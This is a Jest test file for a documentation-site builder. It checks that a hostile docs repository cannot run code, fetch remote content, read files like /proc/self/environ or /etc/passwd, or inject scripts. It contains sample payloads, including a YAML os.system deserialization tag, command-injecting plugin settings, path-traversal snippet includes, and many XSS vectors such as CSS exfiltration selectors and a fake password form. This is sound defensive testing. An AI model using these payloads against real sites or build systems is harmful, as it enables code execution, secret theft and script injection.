import { createMockDirectory } from '@backstage/backend-test-utils';
import childProcess from 'node:child_process';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { createServer, Server } from 'node:http';
import { AddressInfo } from 'node:net';
import { buildSite } from './site/buildSite';

describe('docs of somebody who means harm', () => {
  const folder = createMockDirectory();
  let canary: Server;
  let url: string;
  let asked = 0;

  beforeAll(async () => {
    canary = createServer((_, response) => {
      asked += 1;
      response.end('FETCHED');
    });
    await new Promise<void>(resolve => canary.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise(resolve => canary.close(resolve)));

  const build = async (site: Parameters<typeof folder.setContent>[0]) => {
    folder.setContent({ 'secret.txt': 'SECRET', site, out: {} });
    const log: string[] = [];
    await buildSite({
      inputDir: folder.resolve('site'),
      outputDir: folder.resolve('out'),
      report: message => log.push(message),
      tell: message => log.push(message),
    });
    const page = readFileSync(folder.resolve('out/index.html'), 'utf8');
    const written = readdirSync(folder.resolve('out'), { recursive: true });
    return { page, log: log.join('\n'), written };
  };

  it('attack case 27: nothing of a repository runs, is fetched or read, and each is named', async () => {
    const spawn = jest.spyOn(childProcess, 'spawn');
    const touch = `import os; os.system("touch ${folder.resolve('ran')}")`;
    process.env.TEST_CANARY = 'HUSH';
    const { page, log, written } = await build({
      'mkdocs.yml': `site_name: Docs
INHERIT: ../secret.yml
hooks: [hook.py]
theme: { name: material, custom_dir: overrides }
extra_css: [${url}/a.css]
extra_javascript: [${url}/a.js]
site_description: !ENV TEST_CANARY
site_author: !!python/object/apply:os.system ["touch ${folder.resolve('ran')}"]
plugins: [techdocs-core, macros: { module_name: hook }, mkdocstrings, gen-files: { scripts: [hook.py] }]
markdown_extensions:
  - hook
  - mkdocs-click
  - pymdownx.emoji: { emoji_index: !!python/name:hook.run }
  - pymdownx.snippets: { url_download: true, base_path: [.., /] }
  - plantuml_markdown: { plantuml_cmd: "touch ${folder.resolve('ran')}" }
`,
      'hook.py': touch,
      overrides: { 'main.html': `{{ "OVERRIDE" }}` },
      docs: {
        'hook.py': touch,
        'index.md': `# T

--8<-- "${url}/x.md"
--8<-- "/proc/self/environ"
--8<-- "../../secret.txt"
--8<-- "secret.txt"
--8<-- "../hook.py"

\`\`\`plantuml
!include ${url}/x
\`\`\`

::: hook.run

{{ config }} {% include "/etc/passwd" %}
`,
      },
    });
    delete process.env.TEST_CANARY;

    expect(existsSync(folder.resolve('ran'))).toBe(false);
    expect(asked).toBe(0);
    expect(spawn).not.toHaveBeenCalled();
    expect(page).not.toMatch(/SECRET|HUSH|PATH=|FETCHED|OVERRIDE|os\.system/);
    expect(written).not.toContain('main.html');
    for (const name of [
      ...['INHERIT', 'hooks', 'extra_css', 'extra_javascript', 'custom_dir'],
      ...['!!python/object/apply:os.system', '!!python/name:hook.run', '!ENV'],
      ...['ignored extensions: hook (', 'mkdocs-click (imports code'],
      ...['plantuml_markdown (', 'macros (', 'mkdocstrings (', 'gen-files ('],
      `snippet '${url}/x.md' left out: files of other hosts are never fetched`,
      "snippet '/proc/self/environ' left out: it is outside",
      "snippet '../../secret.txt' left out: it is outside",
      "snippet 'secret.txt' left out: it is outside",
      "snippet '../hook.py' left out",
    ]) {
      expect(log).toContain(name);
    }
  });

  it('attack case 28: a page cannot act, spy or cover the portal', async () => {
    const { page, log } = await build({
      docs: {
        'index.md': `# T

<script>alert(1)</script>
<object data="x"></object><embed src="x">
<svg onload="alert(1)"><script>alert(1)</script></svg>
<style>input[value^=a]{background:url(${url}/css)}</style>
<link rel="stylesheet" href="assets/stylesheets/main.aaaaaaaa.min.css">
<meta http-equiv="refresh" content="0;url=${url}/refresh">
<base href="${url}/base">
<iframe src="${url}/frame"></iframe>
<form action="${url}/form"><input name="q" type="password"></form>
<div style="background:url(${url}/inline);position:fixed;inset:0;z-index:9">x</div>
<div class="md-overlay" data-md-component="header">y</div>

[a](javascript:alert(1)) ![b](c.png){ onerror=alert(1) style="position:fixed" }

Text {: onclick=alert(1) style="position:fixed;background:url(/list)" .md-overlay }

\`\`\`html title="<img src=x onerror=alert(1)>"
<script>alert(1)</script>
\`\`\`

=== "<img src=x onerror=alert(1)>"
    tab

!!! note "<svg onload=alert(1)>"
    note

++"<script>x</script>"++ {>><script>x</script><<} :material-account:{ .a onload=x }
`,
      },
    });
    const article = page.slice(
      page.indexOf('<article'),
      page.indexOf('</article>'),
    );
    // What is left of the attacks is text.
    const tags = article.replace(/>[^<]*/g, '>');
    expect(tags).not.toMatch(
      /<(?:script|object|embed|style|link|meta|base|iframe|form)\b|<svg(?! xmlns)|\son\w+=|javascript:|url\(|position|z-index|md-overlay|data-md-/i,
    );
    expect(tags).not.toContain(url);
    expect(tags).not.toMatch(/type="password"/);
    for (const name of [
      ...['<script>', '<object>', '<style>', '<link>', '<base>', '<iframe>'],
      ...['<form>', 'onload=', 'onerror='],
    ]) {
      expect(log).toContain(name);
    }
  });
});
